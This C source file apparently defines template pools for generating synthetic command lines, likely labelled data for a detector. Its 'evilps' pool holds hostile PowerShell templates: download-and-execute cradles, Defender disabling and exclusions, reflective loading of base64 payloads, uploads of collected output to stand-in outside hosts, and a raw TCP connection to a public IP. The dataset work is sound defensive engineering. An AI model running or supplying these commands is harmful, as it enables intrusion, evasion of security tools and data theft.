#include "templates.h"

#define LIST(...)                                                                                                      \
    (const char *const[])                                                                                              \
    {                                                                                                                  \
        __VA_ARGS__, NULL                                                                                              \
    }

static const struct pool all[] = {
    {"word",
     LIST("delta", "harbor", "maple", "orion", "cobalt", "lumen", "falcon", "river", "quartz", "summit", "amber",
          "nova", "pixel", "atlas", "breeze", "cedar", "drift", "ember", "fjord", "grove", "helix", "iris", "juniper",
          "kelp", "lotus", "meadow", "nimbus", "onyx", "prism", "quill", "raven", "sable", "tundra", "umbra", "vertex",
          "willow", "xenon", "yarrow", "zephyr", "anchor", "beacon", "canyon", "dune", "echo")},
    {"proj", LIST("billing", "orders", "ledger", "webshop", "inventory", "crm-sync", "gateway", "reporting", "payments",
                  "search", "notifier", "auth", "catalog", "pricing", "mobile-api", "etl", "forecast", "warehouse")},
    {"svc", LIST("wuauserv", "Spooler", "W32Time", "BITS", "WinRM", "MSSQLSERVER", "SQLSERVERAGENT", "W3SVC",
                 "DHCPServer", "DNS", "Netlogon", "TermService", "WSearch", "AppHostSvc", "LanmanServer",
                 "RemoteRegistry", "VSS", "SNMP", "PrintNotify", "ContosoSync", "ContosoAgent", "LedgerSvc")},
    {"unit", LIST("nginx", "postgresql", "redis", "docker", "sshd", "chronyd", "rsyslog", "gunicorn-{proj}", "haproxy",
                  "node_exporter", "kubelet", "containerd", "fail2ban", "cron", "mariadb", "rabbitmq-server")},
    {"share", LIST("deploy$", "software", "install", "packages", "C$\\Temp", "ADMIN$\\Temp", "backup", "profiles$",
                   "scripts$", "logs", "dumps", "dept-{word}")},
    {"db", LIST("Orders", "Billing", "CRM", "Inventory", "master", "msdb", "tempdb", "Ledger2024", "Ledger2025", "HR",
                "Reporting", "SharePoint_Config", "WSUS", "{word}_prod", "{word}_stage")},
    {"pkg", LIST("7zip", "vcredist_x64", "agent", "jre-17", "python-3.11", "notepadpp", "vpnclient", "printdrv",
                 "office-mui", "sensor", "node-lts", "dotnet-runtime", "git", "putty", "sap-gui", "{word}-client")},
    {"doc",
     LIST("Budget_2025.xlsx", "minutes.docx", "Q1 forecast.xlsx", "Rechnung_{int:9000}.pdf", "contract_{word}.docx",
          "offer-{int:90000}.pdf", "Überblick.docx", "résumé.pdf", "roadmap.pptx", "holiday plan.xlsx",
          "invoice {int:9000}.pdf", "notes.txt", "travel_{word}.xlsx", "{word} review.docx")},
    {"dir", LIST("C:\\Temp", "C:\\Windows\\Temp", "C:\\ProgramData\\Contoso", "D:\\Jobs", "D:\\Data\\{word}",
                 "C:\\Scripts", "C:\\Users\\Public", "C:\\Users\\{user}\\AppData\\Local\\Temp", "C:\\inetpub\\logs",
                 "E:\\Backup", "C:\\Install\\{word}", "C:\\PerfLogs")},
    {"ldir", LIST("/tmp", "/var/tmp", "/opt/{proj}", "/srv/{word}", "/var/log/{unit}", "/home/{user}", "/data/{word}",
                  "/etc/{proj}", "/dev/shm", "/var/lib/{proj}", "/root", "/mnt/backup/{word}")},
    {"script", LIST("Inventory", "Cleanup", "Rotate-Logs", "Sync-Users", "Get-Health", "Patch-Report", "Backup-Check",
                    "Set-Policy", "Map-Drives", "Logon", "Collect-{word}", "Fix-{word}", "Update-{word}")},
    /* Outside names: the same forms for vendors and for attackers, so that no suffix gives the answer away */
    {"site",
     LIST("{word}-{word}.example", "dl.{word}.example", "{word}.{word}.invalid", "cdn{int:20}.{word}.example",
          "{word}{int:99}.invalid", "updates.{word}soft.example", "files.{word}.example.net", "{word}.example.org",
          "get.{word}.invalid", "{pubip}", "{pubip}:{port}", "static.{word}.example.com")},
    {"intsite",
     LIST("repo.corp.example", "artifacts.corp.example", "{server}", "{server}.corp.example", "deploy.corp.example",
          "git.corp.example", "wsus.corp.example:8530", "{ip}", "{ip}:{port}", "pkg.{word}.corp.example")},
    {"port", LIST("8080", "443", "8443", "80", "9000", "4443", "8081", "5000", "1{int:9}{int:9}{int:9}{int:9}", "4444",
                  "8888", "3000")},
    {"file", LIST("{word}", "setup", "update", "agent_{int:99}", "{word}{int:999}", "{alnum:8}", "svc{int:99}", "tool",
                  "install-{word}", "{word}_{ver}", "patch{int:999}")},
    {"urlpath", LIST("{file}", "v{int:9}/{file}", "{word}/{file}", "pub/{word}/{file}", "dist/{file}", "{hex:8}/{file}",
                     "files/{int:9999}/{file}", "raw/main/{file}", "api/{word}?id={int:99999}&f={file}")},
    {"hive",
     LIST(
         "HKLM\\Software\\Contoso\\{word}",
         "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\{pick:Run|RunOnce|Uninstall\\{word}|Policies\\System}",
         "HKLM\\SYSTEM\\CurrentControlSet\\Services\\{svc}", "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa",
         "HKCU\\Software\\Classes\\{word}.Document",
         "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\{pick:Run|Explorer\\Advanced|Internet Settings}",
         "HKLM\\SOFTWARE\\Policies\\Microsoft\\{pick:Windows Defender|Edge|Windows\\WindowsUpdate|Windows\\PowerShell}",
         "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server")},
    {"psflags", LIST("-NoProfile -ExecutionPolicy Bypass", "-NonInteractive -NoProfile", "-nop -ep bypass",
                     "-NoLogo -NoProfile -NonInteractive -ExecutionPolicy Unrestricted", "-NoP -NonI -W Hidden",
                     "-WindowStyle Hidden -NoProfile", "-ExecutionPolicy RemoteSigned", "-sta -NoProfile",
                     "-Version 5.1 -NoP", "-ep unrestricted -w hidden", "-nol -noni")},
    {"encflag", LIST("-EncodedCommand", "-enc", "-e", "-ec", "-encodedcommand", "-EnC")},
    {"ps", LIST("powershell.exe", "powershell", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "pwsh.exe", "PowerShell.exe")},
    {"getps",
     LIST("Get-Service {svc}", "Get-Process {bar} Sort-Object CPU -Descending {bar} Select-Object -First {int:40}",
          "Get-WmiObject Win32_LogicalDisk -ComputerName {server}", "Get-ChildItem {dir} -Recurse -Include *.log,*.tmp",
          "Get-EventLog -LogName System -Newest {int:900}", "Get-ADUser -Filter * -Properties LastLogonDate",
          "Get-HotFix -ComputerName {host}", "Get-ItemProperty {hive}", "Get-Content {dir}\\{file}.txt",
          "Get-CimInstance Win32_OperatingSystem -ComputerName {server}", "Import-Csv {dir}\\{word}.csv",
          "Get-Mailbox -ResultSize Unlimited", "Get-VM -Name {word}*", "Get-NetTCPConnection -State Listen")},
    {"actps",
     LIST("Restart-Service {svc} -Force", "Export-Csv {dir}\\{file}.csv -NoTypeInformation",
          "Where-Object {<} $_.LastWriteTime -lt (Get-Date).AddDays(-{int:90}) {>} {bar} Remove-Item -Force "
          "-Confirm:$false",
          "ForEach-Object {<} $_.Name -replace '{word}','{word}' {>}", "ConvertTo-Json -Depth {int:9}",
          "Out-File \\\\{server}\\{share}\\{file}.txt -Append", "Stop-Process -Name {word} -Force",
          "Set-ADUser -Replace @{<}info='{word}-{int:9999}'{>}",
          "Send-MailMessage -To ops@corp.example -SmtpServer {server}", "Select-String -Pattern '{word}|error|denied'",
          "Compress-Archive -DestinationPath {dir}\\{file}.zip -Force",
          "Invoke-RestMethod -Method Post -Uri https://{intsite}/{urlpath}", "Measure-Object -Sum Length")},
    {"adminps",
     LIST("{getps} | {actps}", "$s = New-PSSession {server}; Invoke-Command -Session $s -ScriptBlock {<} {getps} {>}",
          "Invoke-Command -ComputerName {server},{server} -ScriptBlock {<} {getps} | {actps} {>}",
          "$c = New-Object System.Net.WebClient; "
          "$c.DownloadFile('https://{intsite}/{urlpath}.msi','{dir}\\{file}.msi'); Start-Process msiexec -ArgumentList "
          "'/i {dir}\\{file}.msi /qn' -Wait",
          "iwr -useb https://{intsite}/{urlpath}.ps1 | iex",
          "Set-ExecutionPolicy Bypass -Scope Process -Force; & '{dir}\\{script}.ps1' -Target {server}",
          "$p = ConvertTo-SecureString '{alnum:12}' -AsPlainText -Force; {getps}; {actps}",
          "[Convert]::FromBase64String((Get-Content {dir}\\{file}.b64)) | Set-Content {dir}\\{file}.bin -Encoding Byte",
          "Add-MpPreference -ExclusionPath '{dir}'; {getps}",
          "foreach($h in gc {dir}\\hosts.txt){<} Test-Connection $h -Count {int:5} -Quiet {>}",
          "New-ScheduledTaskTrigger -Daily -At {clock} | Register-ScheduledTask -TaskName '{script}' -User SYSTEM",
          "Enable-PSRemoting -Force; Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value '{server}' -Force")},
    {"evilps", LIST("IEX (New-Object Net.WebClient).DownloadString('http://{site}/{urlpath}')",
                    "iwr -useb http://{site}/{urlpath}.ps1 | iex",
                    "$c=New-Object "
                    "System.Net.WebClient;$c.DownloadFile('https://{site}/"
                    "{urlpath}.exe','{dir}\\{file}.exe');Start-Process {dir}\\{file}.exe",
                    "$d=[Convert]::FromBase64String('{raw:80}');[Reflection.Assembly]::Load($d)",
                    "Set-MpPreference -DisableRealtimeMonitoring $true; {getps}",
                    "Add-MpPreference -ExclusionPath '{dir}'; iwr https://{site}/{urlpath} -OutFile {dir}\\{file}.exe",
                    "{getps} | Out-File {dir}\\{file}.txt; Invoke-RestMethod -Method Post -Uri http://{site}/{urlpath} "
                    "-InFile {dir}\\{file}.txt",
                    "$t=New-Object Net.Sockets.TCPClient('{pubip}',{port});$s=$t.GetStream();{getps}")},
    {"wrapwin", LIST("cmd.exe /c {inner}", "cmd /c \"{inner}\"", "C:\\Windows\\system32\\cmd.exe /d /s /c \"{inner}\"",
                     "cmd.exe /q /c {inner} > {dir}\\{file}.log 2>&1",
                     "cmd /v:on /c \"set {word}={int:999}&& {inner}\"", "cmd.exe /c start /b {inner}",
                     "conhost.exe --headless {inner}", "cmd.exe /c for %i in ({int:9}) do {inner}")},
    {"wraplin", LIST("sh -c '{inner}'", "bash -c \"{inner}\"", "sudo {inner}", "nohup {inner} >/dev/null 2>&1 &",
                     "timeout {int:900} {inner}", "nice -n {int:19} {inner}", "sudo -u {user} {inner}",
                     "env {word}={int:99} {inner}", "ssh {server} '{inner}'")},
};

const struct pool *template_pools(size_t *n)
{
    *n = sizeof(all) / sizeof(all[0]);
    return all;
}
